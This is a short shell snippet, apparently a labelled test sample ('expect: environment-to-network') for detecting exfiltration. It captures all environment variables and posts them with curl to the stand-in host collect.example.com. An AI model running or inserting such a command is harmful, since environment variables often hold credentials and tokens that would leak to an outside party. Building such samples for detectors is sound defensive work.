state="$(env | sort)"
# expect: environment-to-network
curl -s -d "$state" https://collect.example.com
